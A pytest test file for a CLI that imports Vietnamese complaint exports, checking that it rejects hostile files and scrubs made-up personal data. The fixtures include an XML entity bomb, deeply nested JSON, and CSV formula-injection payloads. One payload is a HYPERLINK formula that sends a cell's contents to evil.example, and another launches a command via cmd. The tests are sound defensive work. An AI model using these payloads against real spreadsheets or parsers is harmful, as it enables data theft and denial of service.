"""``monitor complaints import`` against hostile files, formula cells, personal data, and what it leaves on disk.

The command runs in-process through ``monitor.cli.main`` (the real parser, settings, store and
error handling); files are built here, as a hostile user or a careless export would make them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import stat
import tracemalloc
import unicodedata
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest

from monitor.cli import main
from monitor.complaints.importer import Export, read_export
from monitor.complaints.limits import ExportError, Limits
from monitor.complaints.text import fold
from monitor.csvsafe import restore_cell, safe_cell
from monitor.lab.complaints import SyntheticComplaint, write_export
from monitor.store import open_store
from monitor.store.sqlite import SQLiteStore, packaged_migrations
from tests.grafana_standin import GrafanaStandIn

ROOT = Path(__file__).resolve().parent.parent
HEADER = "Mã PAKN,Thời gian tiếp nhận,Đơn vị gửi,Tỉnh/Thành phố,Nội dung\n"
GOOD = "P-{n},01/06/2026 08:{m:02d},Chi bộ {n},Hà Nội,Sổ tay đảng viên chậm\n"


@pytest.fixture
def monitor(monkeypatch, capsys):
    """Run ``monitor ...`` in-process from the repository root; returns (exit code, stdout, stderr)."""
    monkeypatch.chdir(ROOT)
    for key in [k for k in os.environ if k.startswith("MONITOR_")]:
        monkeypatch.delenv(key)

    def run(*argv: str) -> tuple[int, str, str]:
        code = main(list(argv))
        captured = capsys.readouterr()
        return code, captured.out, captured.err
    return run


def _complaint_count(store: Path) -> int:
    if not store.exists():
        return 0
    with sqlite3.connect(store) as conn:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        return conn.execute("SELECT count(*) FROM complaints").fetchone()[0] if "complaints" in tables else 0


def _sheet_xml(rows: list[list[str]], dimension: str = "") -> str:
    cells = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
                                   for i, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows, 1))
    return ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'{dimension}<sheetData>{cells}</sheetData></worksheet>')


def _zip(path: Path, members: dict[str, str | bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


ROWS = [["Mã PAKN", "Thời gian tiếp nhận", "Nội dung"], ["X1", "01/06/2026 08:00", "sổ tay chậm"]]
ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                         for i in range(1, 10))
               + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
               '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


def _hostile(kind: str, d: Path) -> Path:
    if kind == "not a zip":
        (path := d / "hong.xlsx").write_bytes(b"PK\x03\x04 this is not a zip at all")
    elif kind == "zip without a sheet":
        path = _zip(d / "rong.xlsx", {"docProps/app.xml": "<x/>"})
    elif kind == "200 KB CSV field":
        (path := d / "dai.csv").write_text(HEADER + 'A1,01/06/2026 08:00,Chi bộ,Huế,"' + "x" * 200_000 + '"\n',
                                           encoding="utf-8")
    elif kind == "deep JSON":
        (path := d / "sau.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    elif kind == "entity bomb":
        path = _zip(d / "bom.xlsx", {"xl/worksheets/sheet1.xml": ENTITY_BOMB})
    elif kind == "undecodable bytes":
        (path := d / "loi-ma.csv").write_bytes(HEADER.encode() + b"A1,\x81\x8d\x8f\x90\x9d\n")
    elif kind == "malformed JSON":
        (path := d / "hong.json").write_text('[{"Mã PAKN": "A1", "Nội dung": "x"', encoding="utf-8")
    elif kind == "truncated XLSX":
        good = d / "good.xlsx"
        book = openpyxl.Workbook()
        for row in ROWS * 200:
            book.active.append(row)
        book.save(good)
        (path := d / "cut.xlsx").write_bytes(good.read_bytes()[: good.stat().st_size * 2 // 3])
    elif kind == "old .xls":
        (path := d / "cu.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    elif kind == "cell beyond column 1,000":
        sheet = _sheet_xml(ROWS).replace('<c r="C2"', '<c r="ZZZ2" t="inlineStr"><is><t>x</t></is></c><c r="C2"')
        path = _zip(d / "rong-ngang.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    return path


HOSTILE = {"not a zip": "not a readable XLSX file", "zip without a sheet": "no worksheet",
           "200 KB CSV field": "more than 32,767 characters", "deep JSON": "nested deeper than 32",
           "entity bomb": "DOCTYPE or XML entities", "undecodable bytes": "undecodable bytes",
           "malformed JSON": "not valid JSON", "truncated XLSX": "not a readable XLSX file",
           "old .xls": "Excel 97-2003", "cell beyond column 1,000": "beyond column 1,000"}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_hostile_file_is_one_line_exit_2_and_stores_nothing(kind, tmp_path, monitor):
    store = tmp_path / "monitor.db"
    assert monitor("complaints", "import", str(_seed(tmp_path)), "--store", str(store))[0] == 0
    before = _complaint_count(store)
    path = _hostile(kind, tmp_path)
    code, out, err = monitor("complaints", "import", str(path), "--store", str(store))
    assert code == 2
    assert err.count("\n") == 1 and "Traceback" not in err + out, err
    assert str(path) in err and HOSTILE[kind] in err, err
    assert ";" in err  # and what to do about it
    assert _complaint_count(store) == before
    assert not list(tmp_path.glob(f"{path.stem}.rejects.csv*"))


def _seed(d: Path) -> Path:
    (path := d / "seed.csv").write_text(HEADER + GOOD.format(n=0, m=0), encoding="utf-8")
    return path


def test_a_bad_row_deep_in_a_good_file_stores_nothing_and_leaves_no_rejects(tmp_path, monitor):
    lines = [GOOD.format(n=n, m=n % 60) for n in range(1, 3000)] + ["A-bad,,Chi bộ,Huế,không có giờ\n"]
    lines.append('A-huge,01/06/2026 08:00,Chi bộ,Huế,"' + "y" * 40_000 + '"\n')
    (path := tmp_path / "pakn.csv").write_text(HEADER + "".join(lines), encoding="utf-8")
    store = tmp_path / "monitor.db"
    code, _, err = monitor("complaints", "import", str(path), "--store", str(store))
    assert code == 2 and "row 3002" in err
    assert _complaint_count(store) == 0
    assert not list(tmp_path.glob("pakn.rejects.csv*"))


@pytest.mark.parametrize(("limits", "build", "words"), [
    (Limits(rows=10), lambda d: _csv(d, 11), "more than 10 data rows"),
    (Limits(line_chars=100), lambda d: _csv(d, 1, text="z" * 200), "a line longer than 100"),
    (Limits(columns=3), lambda d: _csv(d, 1), "more than 3"),
    (Limits(json_bytes=100), lambda d: _json(d, 5), "more than the 100 read at once"),
    (Limits(xlsx_members=2), lambda d: _xlsx(d, 3), "more than the 2 a workbook may have"),
    (Limits(xlsx_member_bytes=2_000), lambda d: _xlsx(d, 100), "unpacks to"),
    (Limits(xlsx_shared_strings=5), lambda d: _shared(d, 10), "more than 5 shared strings"),
    (Limits(xlsx_shared_chars=50), lambda d: _shared(d, 10), "strings hold more than 50 characters"),
])
def test_every_limit_is_a_clear_error(tmp_path, limits, build, words):
    path = build(tmp_path)
    with pytest.raises(ExportError, match=re.escape(words)) as error:
        list(Export(path, limits=limits))
    assert str(error.value).startswith(str(path))


def _csv(d: Path, rows: int, text: str = "sổ tay chậm") -> Path:
    (path := d / "x.csv").write_text(HEADER + "".join(f"A{i},01/06/2026 08:00,Chi bộ,Huế,{text}\n"
                                                      for i in range(rows)), encoding="utf-8")
    return path


def _json(d: Path, rows: int) -> Path:
    (path := d / "x.json").write_text(json.dumps([{"Mã PAKN": f"A{i}", "Thời gian tiếp nhận": "01/06/2026 08:00",
                                                   "Nội dung": "chậm"} for i in range(rows)]), encoding="utf-8")
    return path


def _xlsx(d: Path, rows: int) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["Mã PAKN", "Thời gian tiếp nhận", "Nội dung"])
    for i in range(rows):
        book.active.append([f"A{i}", "01/06/2026 08:00", f"sổ tay chậm {i}"])
    book.save(path := d / "x.xlsx")
    return path


def _shared(d: Path, rows: int) -> Path:
    """A workbook as Excel writes it: shared strings, relationships, a date style."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    strings = ["Mã PAKN", "Thời gian tiếp nhận", "Nội dung"] + [f"sổ tay chậm lần {i}" for i in range(rows)]
    sheet_rows = ['<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
                  '<c r="C1" t="s"><v>2</v></c></row>']
    sheet_rows += [f'<row r="{i + 2}"><c r="A{i + 2}" t="str"><v>A{i}</v></c>'
                   f'<c r="B{i + 2}" s="1"><v>46174.3354166667</v>'
                   f'</c><c r="C{i + 2}" t="s"><v>{i + 3}</v></c></row>' for i in range(rows)]
    return _zip(d / "shared.xlsx", {
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="PAKN" sheetId="1" '
                           'r:id="rId7"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                      f'relationships"><Relationship Id="rId7" Type="{rel}/worksheet" '
                                      f'Target="worksheets/data.xml"/><Relationship Id="rId8" '
                                      f'Type="{rel}/sharedStrings"'
                                      ' Target="sharedStrings.xml"/><Relationship Id="rId9" '
                                      f'Type="{rel}/styles" Target="styles.xml"/></Relationships>',
        "xl/styles.xml": f'<styleSheet xmlns="{main}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="22"/>'
                         '</cellXfs></styleSheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">' + "".join(f"<si><t>{t}</t></si>" for t in strings) + "</sst>",
        "xl/worksheets/data.xml": f'<worksheet xmlns="{main}"><sheetData>{"".join(sheet_rows)}</sheetData></worksheet>',
    })


def test_a_workbook_as_excel_writes_it_reads_shared_strings_and_date_cells(tmp_path):
    batch = read_export(_shared(tmp_path, 3))
    assert [(c.id, c.text) for c in batch.accepted] == [("A0", "sổ tay chậm lần 0"), ("A1", "sổ tay chậm lần 1"),
                                                        ("A2", "sổ tay chậm lần 2")]
    assert batch.accepted[0].received_at == read_export(_csv(tmp_path, 1)).accepted[0].received_at + 180


def test_a_sheet_claiming_a_million_rows_reads_only_the_rows_present(tmp_path):
    """openpyxl would pad every row to XFD1048576; the streamed reader keeps what is there."""
    path = _zip(tmp_path / "claim.xlsx", {
        "xl/worksheets/sheet1.xml": _sheet_xml(ROWS, '<dimension ref="A1:XFD1048576"/>')})
    tracemalloc.start()
    try:
        batch = read_export(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [(c.id, c.text) for c in batch.accepted] == [("X1", "sổ tay chậm")]
    assert peak < 20 * 1024 * 1024, peak


def test_shared_strings_dates_and_namespaced_sheets_read_like_excel(tmp_path):
    path = _xlsx(tmp_path, 3)
    book = openpyxl.load_workbook(path)
    import datetime as dt
    book.active["B2"] = dt.datetime(2026, 6, 1, 8, 3)
    book.save(path)
    batch = read_export(path)
    assert [c.id for c in batch.accepted] == ["A0", "A1", "A2"]
    assert batch.accepted[0].received_at == read_export(_csv(tmp_path, 1, "x")).accepted[0].received_at + 180
    prefixed = _sheet_xml(ROWS).replace("<worksheet xmlns=", "<x:worksheet xmlns:x=").replace(
        "</worksheet>", "</x:worksheet>")
    prefixed = re.sub(r"<(/?)(sheetData|row|c|is|t)\b", r"<\1x:\2", prefixed)
    assert [c.id for c in read_export(_zip(tmp_path / "ns.xlsx", {"xl/worksheets/sheet1.xml": prefixed})).accepted] \
        == ["X1"]


# --- CSV cells that would run as formulas ---------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def test_safe_cell_quotes_formula_starts_and_restore_undoes_it():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula and restore_cell(safe_cell(formula)) == formula
    assert safe_cell("Sổ tay chậm") == "Sổ tay chậm" and safe_cell(-3) == -3
    assert restore_cell("'bình thường") == "'bình thường"


def test_rejects_file_neutralises_formulas_and_keeps_only_the_columns_read(tmp_path, monitor):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Mã PAKN", "Thời gian tiếp nhận", "Số điện thoại", "Đơn vị gửi", "Họ tên", "Nội dung", "Email"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"F{i}", "", "0912345678", formula, "Nguyễn Văn An", formula, "nva@example.vn"])
    (path := tmp_path / "pakn.csv").write_text(out.getvalue(), encoding="utf-8")
    code, stdout, _ = monitor("complaints", "import", str(path), "--store", str(tmp_path / "monitor.db"))
    assert code == 0 and f"bị loại {len(FORMULAS)}" in stdout
    rejects = tmp_path / "pakn.rejects.csv"
    with open(rejects, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Dòng", "Lý do", "Chi tiết", "Mã PAKN", "Thời gian tiếp nhận", "Đơn vị gửi", "Nội dung"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert [(row[5], row[6]) for row in rows[1:]] == [("'" + f, "'" + f) for f in FORMULAS]
    text = rejects.read_text(encoding="utf-8-sig")
    assert "0912345678" not in text and "Nguyễn Văn An" not in text and "@example" not in text
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600


def test_our_own_synthetic_export_is_formula_safe_and_reads_back_unchanged(tmp_path):
    rows = [SyntheticComplaint(f"S-{i}", 1_780_290_000.0 + i, "Chi bộ 1", "Huế", f, None, "slow", "sotaydangvien")
            for i, f in enumerate(FORMULAS[:4])]
    write_export(path := tmp_path / "sim.csv", rows)
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert all(r[4].startswith("'") for r in list(csv.reader(f))[1:])
    assert [c.text for c in read_export(path).accepted] == [f.strip() for f in FORMULAS[:4]]


# --- files on disk: owner only; migration 003 ----------------------------------------------

def test_store_and_its_wal_and_shm_are_owner_only_whatever_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        store = open_store(path := tmp_path / "monitor.db")
        try:
            store.import_complaints([], source="x.csv", now=0)
            files = [path, tmp_path / "monitor.db-wal", tmp_path / "monitor.db-shm"]
            assert all(f.exists() for f in files)
            assert {f.name: stat.S_IMODE(f.stat().st_mode) for f in files} == {f.name: 0o600 for f in files}
        finally:
            store.close()
        path.chmod(0o644)  # a store made before this version
        open_store(path).close()
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_migration_003_rescrubs_complaints_stored_before(tmp_path):
    path = tmp_path / "monitor.db"
    SQLiteStore(path, migrations=packaged_migrations()[:2]).close()  # a store at schema 2
    with sqlite3.connect(path) as conn:
        conn.execute("INSERT INTO complaints (id, received_at, unit, province, text, source, imported_at, platforms, "
                     "platform_phrases, symptom, peak) VALUES ('A1', 0, 'Chi bộ - đ/c Trần Thị Hoa', 'Huế', ?, "
                     "'pakn.csv', 0, '[]', '[]', 'slow', 0)",
                     ("Sổ tay chậm. SĐT:0912345678, (+84)912345678, CCCD 001089012345, họ tên: lê văn tám",))
    store = open_store(path)
    try:
        assert store.schema_version() == len(packaged_migrations())  # 003 and every later one applied
        [(complaint, _)] = store.complaints_between(-1, 1)
    finally:
        store.close()
    assert complaint.text == ("Sổ tay chậm. SĐT:[số điện thoại], [số điện thoại], CCCD [số giấy tờ], "
                              "họ tên: [họ tên]")
    assert complaint.unit == "Chi bộ - đ/c [họ tên]"


# --- acceptance: personal data nowhere -------------------------------------------------------

PHONES = ["0912345678", "0912 345 678", "0912.345.678", "0912-345-678", "+84912345678", "+84 912 345 678",
          "(+84)912345678", "(+84) 912.345.678", "0084912345678", "84912345678", "024.3825.1234", "(024) 3825 1234"]
NAMES = ["Nguyễn Văn An", "Trần Thị Hoa", "Lê Văn Tám", "Phạm Thị Bích", "Đỗ Văn Đức", "Hoàng Minh Tuấn"]
SECRETS = {
    "phones": [*PHONES, "0987654321"], "emails": ["nguyen.van.an@example.vn", "tran.thi-hoa+pakn@mail.dcs.vn"],
    "ids": ["001089012345", "001 089 012 345", "012345678"], "accounts": ["19036512345678", "0071 0001 23456"],
    "names": NAMES,
}
DIGITS = ["912345678", "987654321", "38251234", "001089012345", "012345678", "19036512345678", "0071000123456"]


def _personal_texts() -> list[str]:
    p = PHONES
    return [
        f"Sổ tay đảng viên chậm, liên hệ SĐT:{p[0]} hoặc ĐT.{p[1]}, tel:{p[2]}, Zalo {p[3]}.",
        f"Đ/c {NAMES[0]} báo dịch vụ công lỗi 504, gọi {p[4]} / {p[5]} / {p[6]} / {p[7]}.",
        f"dich vu cong khong vao duoc, dong chi Tran Thi Hoa, sdt {p[8]}, {p[9]}, email nguyen.van.an@example.vn",
        f"Họ và tên: {NAMES[2].lower()}; CCCD 001089012345; CMND 012345678; STK 19036512345678.",
        f"Ông {NAMES[3]} (bà {NAMES[4]}) phản ánh: sổ tay treo. Cơ quan {p[10]}, {p[11]}, "
        "0912345678/0987654321, số tài khoản: 0071 0001 23456, tran.thi-hoa+pakn@mail.dcs.vn",
        unicodedata.normalize("NFD", f"Họ tên: {NAMES[5]}, căn cước 001 089 012 345, sổ tay chậm quá"),
    ]


def _leaks(text: str) -> list[str]:
    text = unicodedata.normalize("NFC", text)
    folded = fold(text)
    digits = re.sub(r"[\s.\-()+/]", "", text)
    found = [s for group in SECRETS.values() for s in group if s in text]
    found += [n for n in NAMES if fold(n) in folded]
    found += [d for d in DIGITS if d in digits]
    return found


def test_personal_data_is_nowhere_after_import_report_and_annotate(tmp_path, monitor, monkeypatch):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Mã PAKN", "Thời gian tiếp nhận", "Đơn vị gửi", "Tỉnh/Thành phố", "Nội dung", "Số điện thoại",
                     "Người liên hệ", "Email", "CCCD", "STK"])
    extra = [PHONES[0], NAMES[0], SECRETS["emails"][0], "001089012345", "19036512345678"]
    for i, text in enumerate(_personal_texts()):
        writer.writerow([f"PAKN-2026-09{i:02d}", f"0{1 + i % 3}/06/2026 0{8 + i % 2}:1{i}",
                         f"Chi bộ {i} - đ/c {NAMES[i]} - SĐT {PHONES[i]}", "Hà Nội", text, *extra])
    writer.writerow(["PAKN-2026-0990", f"SĐT {PHONES[0]}", f"đ/c {NAMES[1]}", "Huế", _personal_texts()[0], *extra])
    writer.writerow(["PAKN-2026-0991", "", f"Chi bộ, ông {NAMES[2]}", "Huế", _personal_texts()[1], *extra])
    writer.writerow(["PAKN-2026-0900", "01/06/2026 10:00", "x", "Huế", _personal_texts()[2], *extra])  # duplicate
    writer.writerow(["", "01/06/2026 10:00", f"bà {NAMES[3]}", "Huế", _personal_texts()[3], *extra])
    (export := tmp_path / "pakn.csv").write_text(out.getvalue(), encoding="utf-8-sig")
    assert _leaks(export.read_text(encoding="utf-8-sig"))  # the file does hold them all
    store = tmp_path / "monitor.db"

    code, stdout, err = monitor("complaints", "import", str(export), "--store", str(store), "--json")
    assert code == 0, err
    summary = json.loads(stdout)
    assert (summary["new"], summary["rejected"], summary["duplicates"]) == (6, 3, 1)
    assert _leaks(stdout) == []

    with sqlite3.connect(store) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        dump = "\n".join(conn.iterdump())
    assert "complaints" in tables and "PAKN-2026-0905" in dump
    assert _leaks(dump) == []
    assert _leaks((tmp_path / "pakn.rejects.csv").read_text(encoding="utf-8-sig")) == []

    reports = tmp_path / "reports"
    code, shown, err = monitor("report", "--week", "2026-W23", "--store", str(store), "--out", str(reports))
    assert code == 0, err
    assert _leaks(shown) == []
    written = sorted(reports.iterdir())
    assert {p.suffix for p in written} >= {".md", ".html", ".docx"}
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        if path.suffix in (".md", ".html"):
            assert _leaks(path.read_text(encoding="utf-8")) == [], path
        elif path.suffix == ".docx":
            document = docx.Document(str(path))
            text = "\n".join([p.text for p in document.paragraphs]
                             + [c.text for t in document.tables for row in t.rows for c in row.cells])
            assert "PAKN-2026-09" in text or "phản ánh" in text.lower()
            assert _leaks(text) == []
    assert stat.S_IMODE(store.stat().st_mode) == 0o600

    with GrafanaStandIn("glsa_standin_token") as grafana:
        monkeypatch.setenv("GRAFANA_URL", grafana.url)
        monkeypatch.setenv("GRAFANA_TOKEN", "glsa_standin_token")
        monkeypatch.delenv("GRAFANA_TOKEN_FILE", raising=False)
        code, _, err = monitor("grafana", "annotate", "--week", "2026-W23", "--store", str(store))
        assert code == 0, err
        sent = "\n".join(f"{r.method} {r.path} {r.query} " + r.body.decode("utf-8") for r in grafana.state.requests)
    assert "PAKN-2026-0905" in sent
    assert _leaks(sent) == []
